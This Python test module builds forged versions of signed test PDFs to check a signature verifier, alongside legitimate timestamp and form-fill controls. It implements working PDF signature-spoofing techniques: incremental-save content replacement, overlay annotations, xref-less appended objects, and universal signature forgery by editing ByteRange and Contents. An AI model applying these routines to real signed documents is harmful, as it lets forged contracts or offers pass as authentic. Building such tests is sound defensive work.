"""Attacks on signed PDFs, generated from our own signed files, and the legitimate controls.

Each attack takes the bytes of a signed PDF (from :mod:`tests.signatures.factories`) and returns
manipulated bytes, built the way an attacker would: pyHanko's incremental writer for new
revisions, raw byte surgery where the attack lives below the object level. The universal
signature forgery (USF) and incremental saving attack (ISA) variants follow Mladenov et al.,
"1 Trillion Dollar Refund – How To Spoof PDF Signatures" (CCS 2019).

The controls (a document timestamp added later, a form field filled on a certified document)
are legitimate changes a verifier must accept.
"""

from __future__ import annotations

__all__ = [
    "FORGED_TEXT",
    "TEXT_FIELD",
    "Attack",
    "SignatureDictionary",
    "add_document_timestamp",
    "add_freetext_annotation",
    "append_after_eof",
    "append_objects_without_xref",
    "fill_text_field",
    "flip_signed_byte",
    "overlay_annotation",
    "overlay_content",
    "replace_page_content",
    "replace_page_object",
    "signature_dictionary",
    "usf_byterange_outside",
    "usf_byterange_overlapping",
    "usf_empty_contents",
    "usf_missing_byterange",
    "usf_zero_byterange",
    "usf_zero_contents",
    "with_text_field",
]

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from io import BytesIO
from typing import Literal

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko_certvalidator import ValidationContext

from tests.signatures.factories import _run
from tests.signatures.pki import TestPki

FORGED_TEXT = "Angebot zurueckgezogen"
"""What the attacker wants the reader to see instead of the signed text."""

Attack = Callable[[bytes], bytes]
"""An attack: signed PDF bytes in, manipulated bytes out."""

XrefLessEnding = Literal["none", "trailer", "startxref"]

_A4 = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)])


def _update(signed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Apply ``change`` in one new incremental revision (xref section and trailer included)."""
    writer = IncrementalPdfFileWriter(BytesIO(signed), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _stream(
    writer: IncrementalPdfFileWriter, data: bytes, **entries: generic.PdfObject
) -> generic.IndirectObject:
    head = generic.DictionaryObject({pdf_name(f"/{k}"): v for k, v in entries.items()})
    return writer.add_object(generic.StreamObject(head, stream_data=data))


def _text_content(text: str) -> bytes:
    return f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")


# -- (a) incremental save replacing content -------------------------------------------------


def replace_page_content(signed: bytes, text: str = FORGED_TEXT) -> bytes:
    """New revision: page 1's ``/Contents`` points to a new stream showing ``text``."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        page = page_ref.get_object()
        page[pdf_name("/Contents")] = _stream(writer, _text_content(text))
        writer.mark_update(page_ref)

    return _update(signed, change)


def replace_page_object(signed: bytes, text: str = FORGED_TEXT) -> bytes:
    """New revision: the page tree's first kid is a brand-new page object showing ``text``."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        old = page_ref.get_object()
        pages = old.raw_get("/Parent")
        new_page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): pages,
                pdf_name("/MediaBox"): _A4,
                pdf_name("/Resources"): old["/Resources"],
                pdf_name("/Contents"): _stream(writer, _text_content(text)),
            }
        )
        new_ref = writer.add_object(new_page)
        kids = pages.get_object()["/Kids"]
        kids[0] = new_ref
        writer.mark_update(pages)

    return _update(signed, change)


# -- (b) overlay through an incremental update ----------------------------------------------


def overlay_content(signed: bytes, text: str = FORGED_TEXT) -> bytes:
    """New revision: a second content stream paints a white box over the text and new text."""
    overlay = b"q 1 g 60 700 400 50 re f Q " + _text_content(text)

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.add_stream_to_page(0, _stream(writer, overlay))

    return _update(signed, change)


def overlay_annotation(signed: bytes, text: str = FORGED_TEXT) -> bytes:
    """New revision: a borderless Square annotation whose appearance hides the text.

    Its appearance is an opaque white box with ``text`` on it, placed exactly over the signed
    line, so a viewer shows the forged text; only annotations are added.
    """
    appearance = b"q 1 g 0 0 400 50 re f Q BT /F1 18 Tf 12 20 Td (" + text.encode() + b") Tj ET"

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, resources = writer.find_page_for_modification(0)
        box = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 400, 50)])
        ap = _stream(
            writer,
            appearance,
            Type=pdf_name("/XObject"),
            Subtype=pdf_name("/Form"),
            BBox=box,
            Resources=resources,
        )
        annot = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Square"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (60, 700, 460, 750)]
                ),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/Border"): generic.ArrayObject([generic.NumberObject(0)] * 3),
                pdf_name("/P"): page_ref,
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): ap}),
            }
        )
        writer.register_annotation(page_ref, writer.add_object(annot))

    return _update(signed, change)


# -- (c) incremental update without an xref section -----------------------------------------


def _page_content_ref(signed: bytes) -> generic.Reference:
    reader = PdfFileReader(BytesIO(signed), strict=False)
    page_ref, _ = reader.find_page_for_modification(0)
    contents = page_ref.get_object().raw_get("/Contents")
    assert isinstance(contents, generic.IndirectObject)
    return contents.reference


def append_objects_without_xref(signed: bytes, *, ending: XrefLessEnding = "none") -> bytes:
    """Append a redefinition of page 1's content stream after ``%%EOF``, but no xref section.

    A reader that rebuilds the cross-reference table by scanning (as many viewers do when the
    structure looks damaged) takes the later definition and shows the forged text; pyHanko reads
    the cross-reference sections only and never sees it. ``ending`` is what follows the object:
    ``none`` (nothing), ``trailer`` (a trailer and ``%%EOF``, like an update whose xref section
    was dropped) or ``startxref`` (``startxref`` pointing back at the last real xref section and
    ``%%EOF``, so that the file again ends in ``%%EOF`` and the appended object is orphaned).
    """
    ref = _page_content_ref(signed)
    content = _text_content(FORGED_TEXT)
    tail = b"\n%d %d obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        ref.idnum,
        ref.generation,
        len(content),
        content,
    )
    if ending == "trailer":
        size = PdfFileReader(BytesIO(signed), strict=False).trailer["/Size"]
        root = re.findall(rb"/Root (\d+ \d+) R", signed)[-1]
        tail += b"trailer\n<< /Size %d /Root %s R >>\n%%%%EOF\n" % (size, root)
    elif ending == "startxref":
        last_xref = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
        tail += b"startxref\n%d\n%%%%EOF\n" % last_xref
    return signed + tail


# -- (d) trailing bytes after %%EOF ----------------------------------------------------------


def append_after_eof(signed: bytes, tail: bytes) -> bytes:
    """The signed file with ``tail`` appended verbatim after its final ``%%EOF``."""
    return signed + tail


# -- (e) universal signature forgery ----------------------------------------------------------


@dataclass(frozen=True)
class SignatureDictionary:
    """Where the first signature's ``/Contents`` and ``/ByteRange`` sit in the file."""

    contents: tuple[int, int]
    """Offsets of ``<`` and one past ``>`` of the ``/Contents`` hex string."""
    byte_range: tuple[int, int]
    """Offsets of ``/ByteRange`` and one past its closing ``]`` and the padding after it."""
    ranges: tuple[int, int, int, int]
    """The ``/ByteRange`` values."""


def signature_dictionary(signed: bytes) -> SignatureDictionary:
    """Locate the first signature's dictionary (the oldest signature in the file)."""
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\] *", signed)
    assert match is not None, "no signature in the file"
    a, b, c, d = (int(g) for g in match.groups())
    assert signed[b : b + 1] == b"<"
    assert signed[c - 1 : c] == b">"
    return SignatureDictionary(contents=(b, c), byte_range=match.span(), ranges=(a, b, c, d))


def _splice(data: bytes, span: tuple[int, int], replacement: bytes) -> bytes:
    """Replace ``data[span]`` by ``replacement`` padded with spaces, keeping every offset."""
    start, end = span
    assert len(replacement) <= end - start
    return data[:start] + replacement.ljust(end - start) + data[end:]


def usf_zero_contents(signed: bytes) -> bytes:
    """USF: ``/Contents`` is all hex zeros (the signature value is gone, the dictionary stays)."""
    start, end = signature_dictionary(signed).contents
    return _splice(signed, (start, end), b"<" + b"0" * (end - start - 2) + b">")


def usf_empty_contents(signed: bytes) -> bytes:
    """USF: ``/Contents <>`` (empty), padded with spaces so that no offset moves."""
    return _splice(signed, signature_dictionary(signed).contents, b"<>")


def usf_zero_byterange(signed: bytes) -> bytes:
    """USF: ``/ByteRange [0 0 0 0]`` — the signature covers nothing."""
    return _splice(signed, signature_dictionary(signed).byte_range, b"/ByteRange [0 0 0 0]")


def usf_missing_byterange(signed: bytes) -> bytes:
    """USF: the ``/ByteRange`` entry is blanked out of the signature dictionary."""
    return _splice(signed, signature_dictionary(signed).byte_range, b"")


def usf_byterange_outside(signed: bytes) -> bytes:
    """USF: the second range reaches far beyond the end of the file."""
    a, b, c, _ = signature_dictionary(signed).ranges
    forged = b"/ByteRange [%d %d %d %d]" % (a, b, c, 10 * len(signed))
    return _splice(signed, signature_dictionary(signed).byte_range, forged)


def usf_byterange_overlapping(signed: bytes) -> bytes:
    """USF: the second range starts inside the first one (the ranges overlap)."""
    a, b, c, d = signature_dictionary(signed).ranges
    forged = b"/ByteRange [%d %d %d %d]" % (a, b, b // 2, d + (c - b // 2))
    return _splice(signed, signature_dictionary(signed).byte_range, forged)


# -- (f) FreeText annotation --------------------------------------------------------------------


def add_freetext_annotation(signed: bytes, text: str = FORGED_TEXT) -> bytes:
    """New revision: a FreeText annotation with ``text`` on page 1."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        annot = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (72, 600, 400, 640)]
                ),
                pdf_name("/Contents"): generic.TextStringObject(text),
                pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 1 0 0 rg"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): page_ref,
            }
        )
        writer.register_annotation(page_ref, writer.add_object(annot))

    return _update(signed, change)


# -- (g) in-place byte flip ---------------------------------------------------------------------


def flip_signed_byte(signed: bytes, needle: bytes = b"(Angebot") -> bytes:
    """Change one character of the page text in place (inside the first signed range)."""
    at = signed.index(needle) + 1
    assert at < signature_dictionary(signed).ranges[1]
    return signed[:at] + b"B" + signed[at + 1 :]


# -- controls: legitimate changes -------------------------------------------------------------


def add_document_timestamp(
    pki: TestPki, signed: bytes, *, at: datetime, tsa: str = "qtsa"
) -> bytes:
    """LTA update: revocation data for the last document timestamp, then a new one at ``at``.

    This is what an archive does before the last timestamp's certificate expires (pyHanko's
    ``update_archival_timestamp_chain``), with revocation data from the test PKI at ``at``.
    """
    context = ValidationContext(
        trust_roots=[pki.root],
        crls=pki.crls(at),
        allow_fetching=False,
        moment=at,
    )
    stamper = signers.PdfTimeStamper(pki.timestamper(tsa, at))
    out = BytesIO()

    async def run() -> None:
        reader = PdfFileReader(BytesIO(signed), strict=False)
        await stamper.async_update_archival_timestamp_chain(
            reader, context, in_place=False, output=out
        )

    _run(run())
    return out.getvalue()


TEXT_FIELD = "Bieter"
"""Name of the text field :func:`with_text_field` creates."""


def _text_appearance(writer: IncrementalPdfFileWriter, value: str) -> generic.IndirectObject:
    helvetica = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    resources = generic.DictionaryObject(
        {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): helvetica})}
    )
    data = b"/Tx BMC BT /Helv 12 Tf 0 g 2 6 Td (" + value.encode("latin-1") + b") Tj ET EMC"
    return _stream(
        writer,
        data,
        Type=pdf_name("/XObject"),
        Subtype=pdf_name("/Form"),
        BBox=generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 300, 24)]),
        Resources=resources,
    )


def with_text_field(pdf: bytes) -> bytes:
    """The unsigned ``pdf`` with an empty text field ``Bieter`` on page 1 (before certifying)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        field = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Tx"),
                pdf_name("/T"): generic.TextStringObject(TEXT_FIELD),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (72, 600, 372, 624)]
                ),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): page_ref,
                pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): _text_appearance(writer, "")}
                ),
            }
        )
        field_ref = writer.add_object(field)
        writer.register_annotation(page_ref, field_ref)
        writer.root[pdf_name("/AcroForm")] = generic.DictionaryObject(
            {pdf_name("/Fields"): generic.ArrayObject([field_ref])}
        )
        writer.update_root()

    return _update(pdf, change)


def fill_text_field(signed: bytes, value: str = "Muster Bau GmbH") -> bytes:
    """New revision: the text field ``Bieter`` gets ``value`` and a new appearance stream."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for field_ref in writer.root["/AcroForm"].raw_get("/Fields").get_object():
            field = field_ref.get_object()
            if field.get("/T") == TEXT_FIELD:
                break
        else:
            raise AssertionError(f"no field {TEXT_FIELD}")
        field[pdf_name("/V")] = generic.TextStringObject(value)
        field[pdf_name("/AP")] = generic.DictionaryObject(
            {pdf_name("/N"): _text_appearance(writer, value)}
        )
        writer.mark_update(field_ref)

    return _update(signed, change)
